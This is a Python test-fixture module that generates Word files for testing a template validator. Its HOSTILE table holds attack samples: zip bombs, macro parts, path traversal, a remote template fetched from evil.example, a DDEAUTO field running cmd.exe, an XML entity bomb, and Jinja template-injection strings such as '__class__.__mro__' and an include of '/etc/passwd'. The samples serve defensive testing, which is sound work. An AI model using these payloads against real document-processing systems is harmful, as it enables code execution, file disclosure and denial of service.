"""Word files for the tests of templates: a plain letter, and every kind of broken and hostile one."""

import zipfile
from io import BytesIO

from docx import Document as Word
from docx.oxml import parse_xml

from tools.papers.qr import qr_picture
from tools.papers.word import register
from tools.papers.word.official import Paper
from tools.papers.word.register import Document, Field

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FIELDS = (
    Field("name", "姓名"),
    Field("duties", "职责", ()),
    Field("items", "事项", (Field("what", "内容"), Field("steps", "步骤", ()))),
    Field("note", "备注"),
    Field("qr", "二维码"),
)


def values(name="王堃", **more):
    items = [{"what": "清扫", "steps": ["早", "晚"]}, {"what": "巡查", "steps": ["周一"]}]
    return {
        "name": name,
        "duties": ["带头", "包片"],
        "items": items,
        "note": "",
        "qr": qr_picture("https://zhenzi.example/p/1"),
    } | more


def builtin():
    paper = Paper().title("责任书").text("{{ name }}同志：").tag("for duty in duties").text("{{ duty }}").tag("endfor")
    paper.table(["事项", "步骤"], ["{{ item.what }}", "{{ item.steps|join('、') }}"], "item in items", (60, 60))
    return (
        paper.tag("if note").text("{{ note }}").tag("endif").signature("党支部", "2026年", "{{ qr }}", "扫码").saved()
    )


LETTER = Document("test_letter", "责任书", FIELDS, values, builtin, page="papers/test_letter.html", two_sided=True)


def registered(monkeypatch):
    """An invented plain letter among the documents."""
    monkeypatch.setitem(register.DOCUMENTS, LETTER.code, LETTER)
    return LETTER


def saved(word):
    out = BytesIO()
    word.save(out)
    return out.getvalue()


def with_text(*lines):
    """A file in which these paragraphs stand."""
    word = Word()
    for line in lines:
        word.add_paragraph(line)
    return saved(word)


def with_xml(xml, line="{{ name }}"):
    """A file with this in its paragraph."""
    word = Word()
    word.add_paragraph(line)._p.append(parse_xml(xml))
    return saved(word)


def in_header(line):
    word = Word()
    word.sections[0].header.paragraphs[0].text = line
    return saved(word)


def in_table(*rows):
    word = Word()
    table = word.add_table(len(rows), len(rows[0]))
    for row, cells in zip(table.rows, rows, strict=True):
        for cell, text in zip(row.cells, cells, strict=True):
            cell.text = text
    return saved(word)


def repacked(change=None, added=(), file=None):
    """The built-in file, its parts changed by `change(name, content)`, with more parts."""
    out = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(file or builtin())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            content = old.read(entry)
            new.writestr(entry.filename, change(entry.filename, content) if change else content)
        for name, content in added:
            new.writestr(name, content)
    return out.getvalue()


def replaced(part, old, new):
    """The built-in file, one word of one part replaced."""

    def change(name, content):
        if name != part:
            return content
        assert old in content
        return content.replace(old, new, 1)

    return repacked(change)


MAIN, TYPES, RELATIONS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
LINK = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" %s/>'


def relation(kind, target, mode='TargetMode="External"'):
    row = LINK % (kind.encode(), target.encode(), mode.encode())
    return replaced(RELATIONS, b"</Relationships>", row + b"</Relationships>")


def lying_bomb():
    """A part that says it is small and unpacks to a gigabyte."""
    data = repacked(added=[("word/media/image1.png", b"0" * 60_000_000)])
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/image1.png"))
    return data[: at + 24] + (1000).to_bytes(4, "little") + data[at + 28 :]


def field(words):
    return with_xml(f'<w:r {W}><w:instrText xml:space="preserve">{words}</w:instrText></w:r>')


def typed(extension, kind, name, content=b"x"):
    """With a part of another kind."""
    row = f'<Default Extension="{extension}" ContentType="{kind}"/></Types>'.encode()

    def change(part, old):
        return old.replace(b"</Types>", row) if part == TYPES else old

    return repacked(change, [(name, content)])


DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
HOSTILE = {
    # What it is, and a word of what the township reads.
    "a zip bomb": (lambda: repacked(added=[("word/media/image1.png", b"0" * 60_000_000)]), "太大"),
    "a bomb that lies": (lying_bomb, "不是 Word 文件"),
    "four thousand parts": (lambda: repacked(added=[(f"word/media/{n}.png", b"") for n in range(4000)]), "太大"),
    "too many bytes": (lambda: b"PK" + b"0" * 3_000_000, "2 MB"),
    "a docm": (
        lambda: replaced(TYPES, b"openxmlformats-officedocument.wordprocessingml.document.main+xml",
                         b"ms-word.document.macroEnabled.main+xml"),
        "宏",
    ),
    "a vbaProject": (lambda: typed("bin", "application/vnd.ms-office.vbaProject", "word/vbaProject.bin"), "宏"),
    "an embedded object": (
        lambda: typed("bin", "application/vnd.openxmlformats-officedocument.oleObject", "word/embeddings/o.bin"), "o.bin"),
    "another file inside": (lambda: typed("html", "text/html", "word/afchunk.html"), "afchunk.html"),
    "a part that leads out": (lambda: repacked(added=[("../../evil.xml", b"<a/>")]), "evil.xml"),
    "an attached template": (lambda: relation("attachedTemplate", "http://evil.example/t.dotm"), "http://evil.example/t.dotm"),
    "a linked picture": (lambda: relation("image", "file:////10.0.0.1/share/a.png"), "10.0.0.1"),
    "a link": (lambda: relation("hyperlink", "https://evil.example/"), "evil.example"),
    "a picture by address": (
        lambda: with_xml(f'<w:r {W}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://e.example/a"/>'
                         "</v:shape></w:pict></w:r>"), "e.example"),
    "DDE": (lambda: field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "DDEAUTO"),
    "a file read in": (lambda: field(' INCLUDETEXT "c:\\\\a.txt" '), "INCLUDETEXT"),
    "entities": (lambda: repacked(lambda n, c: c.replace(b"?>", b"?>" + DTD, 1) if n == MAIN else c), "不予打开"),
    "tracked changes": (lambda: with_xml(f'<w:ins {W} w:id="1"><w:r><w:t>x</w:t></w:r></w:ins>'), "修订"),
    "very deep": (
        lambda: repacked(lambda n, c: c.replace(b"<w:body>", b"<w:body>" + b"<w:sdt>" * 5000, 1) if n == MAIN else c),
        "已损坏"),
    "an old doc": (lambda: b"\xd0\xcf\x11\xe0" + b"0" * 1000, "旧格式"),
    "no zip": (lambda: b"hello", "不是 Word 文件"),
    "a sheet": (lambda: zipped([("xl/workbook.xml", b"<a/>"), (TYPES, b"<Types/>")]), "workbook"),
    "cut off": (lambda: builtin()[:-2000], "不是 Word 文件"),
    # Jinja.
    "a class": (lambda: with_text("{{ ''.__class__ }}"), "__class__"),
    "a class of a name": (lambda: with_text("{{ name.__class__.__mro__ }}"), "name.__class__"),
    "a call": (lambda: with_text("{{ name.upper() }}"), "函数"),
    "an item": (lambda: with_text("{{ items[0] }}"), "函数"),
    "an endless loop": (lambda: with_text("{% for i in range(10**9) %}x{% endfor %}"), "函数"),
    "a loop through a text": (lambda: with_text("{% for i in name %}x{% endfor %}"), "“name”不是一串内容"),
    "a power": (lambda: with_text("{{ 10**10**10 }}"), "算式"),
    "a long text": (lambda: with_text("{{ 'x' * 1000000000 }}"), "算式"),
    "a loop through itself": (
        lambda: with_text("{% for a in duties %}{% for b in duties %}{% for c in duties %}" + "{% endfor %}" * 3),
        "循环里再套循环"),
    "loops through an inner list": (
        lambda: with_text("{% for a in items %}{% for b in a.steps %}{% for c in a.steps %}" + "{% endfor %}" * 3),
        "循环里再套循环"),
    "a macro of Jinja": (lambda: with_text("{% macro x() %}{{ x() }}{% endmacro %}{{ name }}"), "macro"),
    "an include": (lambda: with_text("{% include '/etc/passwd' %}"), "include"),
    "a set": (lambda: with_text("{% set x = 1 %}"), "set"),
    "an unknown filter": (lambda: with_text("{{ name|pprint }}"), "不认识“pprint”"),
    "ten thousand braces": (lambda: with_text("{{" * 20000), "配成对"),
    "a tag outside of paragraphs": (
        lambda: replaced(MAIN, b"<w:sectPr", b"<w:r><w:t>{% for d in duties %}{% endfor %}</w:t></w:r><w:sectPr"), "不要写在"),
    "a tag in a description": (lambda: with_xml(f'<w:r {W}><w:t w:x="{{{{ name }}}}">x</w:t></w:r>'), "不要写在"),
    "many tags": (lambda: with_text(*["{{ name }}"] * 1000), "太多"),
    "docxtpl's own": (lambda: in_table(["{% colspan name %}x"]), "colspan"),
    "a footnote's": (lambda: with_text("{%r if name %}x{%r endif %}"), "填不了"),
}  # fmt: skip


def zipped(parts):
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


MISTAKES = {
    "a name misspelt": (lambda: with_text("同志", "{{ nam }}"), ("“{{ nam }}”（第 2 段）", "没有“nam”这个字段", "是不是“name”")),
    "a name of nothing": (lambda: with_text("{{ 电话 }}"), ("没有“电话”这个字段。",)),
    "a row's name": (
        lambda: in_table(["{%tr for item in items %}"], ["{{ item.wat }}"], ["{%tr endfor %}"]),
        ("“{{ item.wat }}”（第 2 段）", "“item.wat”", "“what”")),
    "in the header": (lambda: in_header("{{ nme }}"), ("（页眉）", "“name”")),
    "a list alone": (lambda: with_text("{{ items }}"), ("“items”是一串内容，要用 for",)),
    "rows joined": (lambda: with_text("{{ items|join }}"), ("“items”是一串内容",)),
    "never closed": (lambda: with_text("{%p if note %}", "{{ note }}"), ("没有收尾", "{% endif %}")),
    "never opened": (lambda: with_text("{%p endif %}"), ("前面没有与它配对的开头",)),
    "the wrong end": (lambda: with_text("{%p if note %}", "{%p endfor %}"), ("前面没有与它配对的开头",)),
    "over two paragraphs": (lambda: with_text("{{ name", "}}"), ("配成对",)),
    "across paragraphs": (lambda: with_text("{% if note %}x", "{% endif %}"), ("不在同一层",)),
    "not alone": (lambda: with_text("前{%p if note %}", "{%p endif %}"), ("要单独占一段",)),
    "a row without a table": (lambda: with_text("{%tr for item in items %}"), ("不在表格里",)),
    "wide braces": (lambda: with_text("｛｛name｝｝"), ("全角括号",)),
    "nothing": (lambda: with_text("{{ }}"), ("（第 1 段）",)),
    "a name twice": (lambda: with_text("{% for name in duties %}{{ name }}{% endfor %}"), ("“name”已经有了",)),
    "half a sentence": (lambda: with_text("{{ name note }}"), ("写法不对",)),
}  # fmt: skip
